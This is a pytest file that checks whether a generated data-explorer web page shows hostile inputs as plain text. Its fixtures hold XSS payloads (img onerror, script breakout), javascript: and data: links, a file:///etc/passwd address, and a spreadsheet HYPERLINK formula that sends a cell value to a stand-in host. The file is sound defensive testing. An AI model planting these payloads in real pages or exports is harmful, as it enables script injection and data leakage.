"""Names, quotes and addresses that try to be code are shown as the text they are."""

from __future__ import annotations

from pathlib import Path
from urllib.parse import quote

import pandas as pd
import pytest

from pipeline.checks import Staged
from pipeline.explorer.page import page
from tests.explorer.browser import Browser

IMAGE = "<img src=x onerror=\"window.owned='image'\">"
SCRIPT = "</script><script>window.owned='script'</script><!--"
FORMULA = '=HYPERLINK("http://example.org/?"&A1)'
SLUG = "vel/mo?ra#%zz&\"'<b>=é"
TURNED = "a\u202eb\u2066c\u0000\u0007"


@pytest.fixture(scope="module")
def hostile(whole: Staged, tmp_path_factory: pytest.TempPathFactory) -> str:
    """Address of the page of a small release in which every text is an attack."""
    words = {"partnership:velmora": f"partnership:{SLUG}", "Velmora": IMAGE, "Northmark": SCRIPT, "Southmark": TURNED,
             "Kestria Institute": FORMULA}  # fmt: skip
    tables = {name: frame.replace(words) for name, frame in whole.tables.items()}
    tables["partnerships"] = tables["partnerships"].assign(url="javascript:window.owned='link'")
    evil = tables["evidence"].assign(quote=SCRIPT + IMAGE, source_url="data:text/html,<script>1</script>", value=IMAGE)
    tables["evidence"] = evil
    tables["documents"] = tables["documents"].assign(title=IMAGE, url="file:///etc/passwd", problem=SCRIPT)
    file = tmp_path_factory.mktemp("hostile") / "index.html"
    manifest = {"version": IMAGE, "date": "2026-01-01", "licence": "x", "files": {SCRIPT: {"rows": 1, "sha256": IMAGE}}}
    file.write_text(page(tables, manifest, {}, {}), encoding="utf-8", newline="\n")
    return file.as_uri()


VIEWS = [
    "",
    "partnerships",
    "regions",
    "organisations",
    "events",
    "documents",
    "map",
    "network",
    "data",
    "search?q=img",
    "partnership/{slug}",
    "region/NM1",
    "organisation/kestria-institute",
    "event/kestria-days",
    "document/{image}",
    "?evidence=partnership:{slug}",
    "network?node=partnership:{slug}",
    "partnerships?q={image}&platform={image}",
]


@pytest.mark.parametrize("view", VIEWS)
def test_text_stays_text(tab: Browser, hostile: str, view: str) -> None:
    if tab.ask("location.href.split('#')[0]") != hostile:
        tab.problems.clear()
        tab.open(hostile)
    tab.go("#/" + view.format(slug=quote(SLUG, safe=""), image=quote(IMAGE, safe="")))
    assert tab.ask("window.owned") is None and tab.problems == []
    assert tab.ask("document.querySelectorAll('main img, main script, dialog img, dialog script, iframe').length") == 0
    schemes = set(tab.ask("[...document.querySelectorAll('a[href]')].map(a => a.protocol)"))
    assert schemes <= {"file:", "http:", "https:"}
    assert tab.ask("[...document.querySelectorAll('a[href]')].every(a => !a.href.includes('passwd'))")


def test_it_is_all_there(tab: Browser, hostile: str) -> None:
    tab.open(hostile)
    said = "document.querySelector('main').innerText"
    tab.go("#/partnerships")
    assert IMAGE in tab.ask(said)
    tab.go(f"#/partnership/{quote(SLUG, safe='')}")
    assert all(text in tab.ask(said) for text in (IMAGE, SCRIPT, FORMULA, "javascript:window.owned"))
    tab.go(f"#/?evidence={quote('partnership:' + SLUG, safe='')}")
    assert SCRIPT + IMAGE in tab.ask("document.querySelector('dialog mark').textContent")


def test_the_browser_would_notice(tab: Browser, hostile: str, tmp_path: Path) -> None:
    """The same texts as markup do run: what holds them is the page, not the browser."""
    file = tmp_path / "open.html"
    file.write_text(f"<html data-ready><body><script>window.owned='script'</script>{IMAGE}</body></html>")
    tab.open(file.as_uri())
    assert tab.ask("window.owned") is not None
    guarded = "document.body.innerHTML = '<b>x</b>'"
    tab.open(hostile)
    with pytest.raises(RuntimeError, match="TrustedHTML"):
        tab.ask(guarded)


def test_a_formula_is_no_formula(whole: Staged) -> None:
    frame = pd.DataFrame({"name": [FORMULA]})
    assert FORMULA.replace('"', '\\"').replace("&", "\\u0026") in page(
        {**whole.tables, "partnerships": whole.tables["partnerships"].assign(name=frame["name"].iloc[0])},
        {"files": {}}, {}, {},
    )  # fmt: skip


def test_a_saved_table_runs_no_formula(tab: Browser, hostile: str) -> None:
    tab.open(hostile)
    tab.go("#/organisations")
    tab.ask("window.kept = []; URL.createObjectURL = blob => (window.kept.push(blob), '#'); 0")
    tab.ask("document.querySelector('.take button').click()")
    assert '"\'=HYPERLINK(""http://example.org/?""&A1)"' in tab.ask("window.kept[0].text()")
